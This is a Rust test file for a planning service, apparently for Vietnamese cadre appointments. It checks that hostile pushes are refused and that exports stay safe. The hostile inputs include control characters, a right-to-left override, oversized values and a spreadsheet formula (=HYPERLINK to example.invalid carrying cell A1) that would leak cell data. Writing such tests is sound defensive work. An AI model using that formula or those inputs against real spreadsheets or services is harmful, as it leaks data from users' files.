//! Trust at every boundary (issue 10): what a child pushes, what a parent sends down and what a
//! stranger sends before it is known are checked like a local write, over real mutual TLS with
//! real certificates, and a refusal writes nothing.

use proptest::{prelude::*, strategy::ValueTree, test_runner::TestRunner};
use quyhoach::{
    auth::Role,
    bundle::{
        format::{push_signatures_to_pb, PushSignatures},
        sign::{Signer, Statement},
    },
    domain::{self, BallotRound, Body, Plan, PlanId, PlanStatus, Tally},
    grpc::{
        convert,
        pb::{self, node_sync_client::NodeSyncClient, planning_client::PlanningClient},
    },
    pki::{Authority, Subject},
};
use tonic::{transport::Channel, Code};

use crate::{
    harness::{entry, TlsTree as Tree, TERM},
    procs::{quyhoach, run},
};

/// A submitted plan of commune `unit` with `n` well-formed entries and one valid round.
pub fn plan_of(unit: &str, n: u32) -> Plan {
    let mut plan = Plan::new_draft(
        PlanId {
            unit: unit.into(),
            term: TERM.into(),
            version: 1,
        },
        None,
    );
    plan.entries = (1..=n)
        .map(|i| {
            convert::entry_from_pb("entry", entry(i, "Lê Văn Tám", "C.PCT.UBND", unit)).unwrap()
        })
        .collect();
    plan.rounds = vec![BallotRound {
        body: Body::ExecutiveCommittee,
        date: chrono::NaiveDate::from_ymd_opt(2025, 3, 14).unwrap(),
        convened: 30,
        present: 28,
        ballots_issued: 28,
        valid_ballots: 27,
        tallies: vec![Tally {
            national_id: plan.entries[0].cadre.national_id.clone(),
            position: "C.PCT.UBND".into(),
            yes: 20,
        }],
    }];
    plan
}

/// `plan` as its node would push it: submitted, with its content hash.
fn sealed(mut plan: Plan) -> pb::Plan {
    plan.status = PlanStatus::Submitted;
    plan.hash = Some(plan.content_hash());
    convert::plan_to_pb(&plan)
}

/// Pushes `plan` as its node would: sealed, and signed (its submission) with a node key of its
/// unit from `ca`, so that what the parent refuses is the plan, not a missing signature.
async fn push(
    s: &mut NodeSyncClient<Channel>,
    ca: &Authority,
    plan: Plan,
) -> Result<pb::Receipt, tonic::Status> {
    let mut submitted = plan.clone();
    submitted.status = PlanStatus::Submitted;
    submitted.hash = Some(submitted.content_hash());
    let key = ca.issue(&Subject::node(&plan.id.unit, &[], 1)).unwrap();
    let signer = Signer::from_pem(&key.key_pem, &key.cert_pem, &ca.cert_pem, None).unwrap();
    let signed = PushSignatures {
        signature: signer
            .sign(Statement::submitted(&submitted, chrono::Utc::now()))
            .unwrap(),
        forwarded: Vec::new(),
    };
    let (signature, forwarded) = push_signatures_to_pb(&signed);
    s.push(pb::PushRequest {
        from_unit: plan.id.unit.clone(),
        plan: Some(sealed(plan)),
        signature,
        forwarded,
    })
    .await
    .map(|r| r.into_inner())
}

/// Every plan the district holds, as its reader sees them.
async fn held(reader: &mut PlanningClient<Channel>) -> Vec<pb::Plan> {
    crate::harness::everything(reader).await
}

#[tokio::test]
async fn a_poisoned_push_is_refused_by_field_and_nothing_is_stored() {
    let t = Tree::start().await;
    let mut s = t.node_as(&t.district, "16681").await;
    let mut reader = t.as_(&t.district, "412", &[Role::Reader]).await;
    let before = held(&mut reader).await;

    type Poison = (&'static str, Box<dyn Fn(&mut Plan)>);
    let cases: Vec<Poison> = vec![
        (
            "plan.entries[0].cadre.national_id",
            Box::new(|p| p.entries[0].cadre.national_id = "040076000001€ab".into()),
        ),
        (
            "plan.entries[0].cadre.national_id",
            Box::new(|p| p.entries[0].cadre.national_id = "abc".into()),
        ),
        (
            "plan.entries",
            Box::new(|p| {
                let e = p.entries[0].clone();
                p.entries = (0..5_001u32)
                    .map(|i| {
                        let mut e = e.clone();
                        e.cadre.national_id = format!("0400900{i:05}").into();
                        e
                    })
                    .collect();
            }),
        ),
        (
            "plan.entries[0].cadre.full_name",
            Box::new(|p| p.entries[0].cadre.full_name = "Lê\u{0}Văn\u{1b}[2JTám".into()),
        ),
        (
            "plan.entries[0].cadre.full_name",
            Box::new(|p| p.entries[0].cadre.full_name = "Lê Văn \u{202E}máT".into()),
        ),
        (
            "plan.entries[0].position",
            Box::new(|p| p.entries[0].position = "C.XYZ".into()),
        ),
        (
            "plan.entries[0].cadre.current_unit",
            Box::new(|p| p.entries[0].cadre.current_unit = "99999".into()),
        ),
        (
            "plan.rounds[0].convened",
            Box::new(|p| {
                let r = &mut p.rounds[0];
                r.convened = 0;
                r.tallies[0].yes = 4_000_000_000;
            }),
        ),
        (
            "plan.rounds[0].tallies[0].yes",
            Box::new(|p| p.rounds[0].tallies[0].yes = 4_000_000_000),
        ),
    ];
    for (field, poison) in cases {
        let mut plan = plan_of("16681", 2);
        poison(&mut plan);
        let status = push(&mut s, &t.ca, plan).await.expect_err(field);
        assert_eq!(
            status.code(),
            Code::InvalidArgument,
            "{field}: {}",
            status.message()
        );
        assert!(
            status.message().contains(field),
            "{:?} does not name {field}",
            status.message()
        );
        assert!(status.message().len() < 400, "{}", status.message().len());
    }
    assert_eq!(
        held(&mut reader).await,
        before,
        "a refused push stores nothing"
    );

    // The well-formed plan still goes through, and the consolidated list reads it.
    push(&mut s, &t.ca, plan_of("16681", 2)).await.unwrap();
    let list = reader
        .consolidated(pb::ConsolidatedRequest::default())
        .await
        .unwrap()
        .into_inner();
    assert_eq!(list.entries.len(), 2);
    t.stop().await;
}

/// A well-formed plan with some of its fields replaced by mostly hostile values.
fn hostile_plan() -> impl Strategy<Value = Plan> {
    let text = prop_oneof![
        Just("Lê Văn Tám".to_string()),
        Just(String::new()),
        Just("040076000001€ab".to_string()),
        "\\PC{0,16}",
        "[0-9]{11,13}",
        "[\\x00-\\x1f\\u{202a}-\\u{202e}a-z ]{1,12}",
    ];
    (
        prop::option::of(text.clone()),
        prop::option::of(text.clone()),
        prop::option::of(prop_oneof![
            Just("C.PCT.UBND".to_string()),
            Just("C.BT".to_string()),
            Just("D.BT".to_string()),
            text.clone()
        ]),
        prop::option::of(prop_oneof![
            Just("16681".to_string()),
            Just("99999".to_string()),
            text
        ]),
        prop::option::of((0u32..50, 0u32..50, 0u32..50, 0u32..50, any::<u32>())),
    )
        .prop_map(|(id, name, position, unit, counts)| {
            let mut plan = plan_of("16681", 2);
            let e = &mut plan.entries[1].cadre;
            if let Some(id) = id {
                e.national_id = id.into();
            }
            if let Some(name) = name {
                e.full_name = name.into();
            }
            if let Some(unit) = unit {
                e.current_unit = unit.into();
            }
            if let Some(position) = position {
                plan.entries[1].position = position.into();
            }
            if let Some((convened, present, issued, valid, yes)) = counts {
                let r = &mut plan.rounds[0];
                (r.convened, r.present, r.ballots_issued, r.valid_ballots) =
                    (convened, present, issued, valid);
                r.tallies[0].yes = yes;
            }
            plan
        })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn random_pushes_from_a_real_child_certificate_never_write_when_refused() {
    let t = Tree::start().await;
    let mut s = t.node_as(&t.district, "16681").await;
    let mut reader = t.as_(&t.district, "412", &[Role::Reader]).await;
    let mut runner = TestRunner::new(ProptestConfig::default());
    let strategy = prop::collection::vec(hostile_plan(), 60);
    let plans = strategy.new_tree(&mut runner).unwrap().current();
    let (mut refused, mut taken) = (0, 0);
    for plan in plans {
        let before = held(&mut reader).await;
        let local = plan.clone();
        match push(&mut s, &t.ca, plan).await {
            Err(status) => {
                refused += 1;
                assert_eq!(held(&mut reader).await, before, "{}", status.message());
            }
            Ok(_) => {
                taken += 1;
                // What was taken passes the very checks a local write passes.
                let catalog = quyhoach::config::builtin_catalog().unwrap();
                let hierarchy = quyhoach::config::load_units("builtin:2024").unwrap();
                let today = chrono::Utc::now().date_naive();
                domain::validate::Context {
                    catalog: &catalog,
                    hierarchy: &hierarchy,
                    today,
                    peer: None,
                }
                .plan("plan", &local)
                .unwrap();
            }
        }
    }
    assert!(refused > 20, "refused {refused}, taken {taken}");
    // Every read still works on whatever was taken.
    reader
        .consolidated(pb::ConsolidatedRequest::default())
        .await
        .unwrap();
    t.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_exported_formula_is_inert_and_the_file_is_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let node = crate::harness::start(dir.path(), "40", None, "builtin:2024").await;
    let mut c = crate::harness::client(&node).await;
    let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Xem\")";
    crate::harness::draft_with(
        &mut c,
        "40",
        vec![crate::harness::province_entry(1, formula)],
    )
    .await;
    for ext in ["csv", "xlsx"] {
        let out = dir.path().join(format!("x.{ext}"));
        let mut export = quyhoach();
        export
            .args(["export", "--node", &node.addr.to_string(), "--what", "plan"])
            .args(["--unit", "40", "--term", TERM, "--out"])
            .arg(&out);
        let ran = run(&mut export).await;
        assert!(ran.ok, "{ran:?}");
        let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{ext} holds full national IDs");
        if ext == "csv" {
            let text = std::fs::read_to_string(&out).unwrap();
            assert!(text.contains("'=HYPERLINK("), "{text}");
            assert!(
                !text.contains(",=HYPERLINK(") && !text.contains("\"=HYPERLINK("),
                "{text}"
            );
        }
    }
    node.stop().await.unwrap();
}

#[tokio::test]
async fn a_huge_value_is_quoted_only_by_its_first_characters() {
    let t = Tree::start().await;
    let mut clerk = t.as_(&t.commune, "16681", &[Role::Clerk]).await;
    let huge = "9".repeat(100_000);
    let refused = clerk
        .create_draft(pb::CreateDraftRequest {
            unit: huge.clone(),
            term: TERM.into(),
            from_sources: false,
        })
        .await
        .unwrap_err();
    assert!(refused.message().contains("unit"), "{}", refused.message());
    assert!(
        refused.message().len() < 500,
        "{} bytes",
        refused.message().len()
    );
    let mut reader = t.as_(&t.district, "412", &[Role::Reader]).await;
    let refused = reader
        .consolidated(pb::ConsolidatedRequest {
            under: huge,
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert!(
        refused.message().len() < 500,
        "{} bytes",
        refused.message().len()
    );
    t.stop().await;
}
